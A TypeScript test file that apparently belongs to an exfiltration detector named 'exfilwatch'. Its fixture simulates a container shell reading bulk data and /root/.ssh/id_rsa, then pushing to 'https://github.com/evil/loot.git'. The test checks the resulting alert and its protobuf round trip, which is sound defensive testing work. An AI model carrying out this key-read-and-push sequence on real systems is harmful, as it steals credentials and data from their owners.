/** The alert JSON reads into the generated exfilwatch.v1.Alert and survives a binary round trip. */
import { describe, expect, it } from 'vitest';
import { Alert as AlertProto } from '../../../src/generated/exfilwatch/v1/alert.js';
import type { Alert } from '../../../src/model/alert.js';
import { MiB, run, Scenario } from './builder.js';

function sampleAlert(): Alert {
  const s = new Scenario();
  const c = s.container({ namespace: 'prod', pod: 'api-1', labels: { app: 'api' } });
  const sh = s.init(c);
  s.readMany(sh, '/data', 70, MiB, 10).read(sh, '/root/.ssh/id_rsa', 1700);
  const git = s.exec(c, '/usr/bin/git', 'push https://github.com/evil/loot.git main', { parent: sh });
  s.connect(git, '140.82.112.3', 443).send(git, '140.82.112.3', 443, 5 * MiB);
  const { alerts } = run(s.events);
  expect(alerts).toHaveLength(1);
  return alerts[0]!;
}

describe('exfilwatch.v1.Alert', () => {
  it('reads the alert JSON with every field, and round-trips through the binary encoding', () => {
    const alert = sampleAlert();
    const msg = AlertProto.fromJSON(JSON.parse(JSON.stringify(alert)));
    const back = AlertProto.decode(AlertProto.encode(msg).finish());
    expect(back.id).toBe(alert.id);
    expect(back.rule).toBe('bulk-read-then-push');
    expect(back.severity).toBe('critical');
    expect(back.container).toEqual({
      id: alert.container.id,
      name: alert.container.name,
      image: alert.container.image,
    });
    expect(back.pod).toEqual({ namespace: 'prod', name: 'api-1', labels: { app: 'api' } });
    expect(back.process?.execId).toBe(alert.process.execId);
    expect(back.push).toEqual({
      tool: 'git',
      destination: 'github.com',
      remote: 'https://github.com/evil/loot.git',
      namedBy: 'argv',
      addresses: ['140.82.112.3:443'],
    });
    expect(back.reads?.bytes).toBe(BigInt(alert.reads.bytes));
    expect(back.reads?.sensitive).toEqual(['/root/.ssh/id_rsa']);
    expect(back.egressBytes).toBe(BigInt(5 * MiB));
    expect(back.window).toEqual(alert.window);
    expect(back.evidence).toHaveLength(alert.evidence.length);
    expect(back.mitre).toEqual({ technique: 'T1567.001', tactic: 'exfiltration' });
    expect(back.response).toEqual(alert.response);
    // Every top-level JSON field of the alert is a field of the message.
    const protoFields = new Set(Object.keys(AlertProto.decode(new Uint8Array())));
    for (const key of Object.keys(alert)) expect(protoFields.has(key), key).toBe(true);
  });
});
